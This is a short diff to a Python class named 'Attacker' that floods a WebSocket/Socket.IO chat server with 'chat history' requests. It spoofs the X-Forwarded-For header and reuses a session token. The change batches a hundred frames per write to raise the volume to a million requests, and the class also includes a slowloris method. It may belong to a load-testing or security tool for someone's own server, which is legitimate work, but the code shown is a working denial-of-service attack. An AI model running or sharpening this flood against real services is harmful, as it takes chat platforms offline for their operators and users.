@@ -93,10 +93,11 @@ class Attacker:
             f"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
             f"X-Forwarded-For: {self.address}\r\n\r\n".encode())
         writer.write(frame("40" + json.dumps({"token": self.token})))
-        for _ in range(100_000):
-            writer.write(frame('420["chat history",{"before":null,"limit":200}]'))
-            await asyncio.wait_for(writer.drain(), 20)
-            done["deaf requests"] += 1
+        requests = 100 * frame('420["chat history",{"before":null,"limit":200}]')
+        for _ in range(10_000):
+            writer.write(requests)
+            await asyncio.wait_for(writer.drain(), 10)
+            done["deaf requests"] += 100
             await asyncio.sleep(0.01)
 
     async def slowloris(self, session):
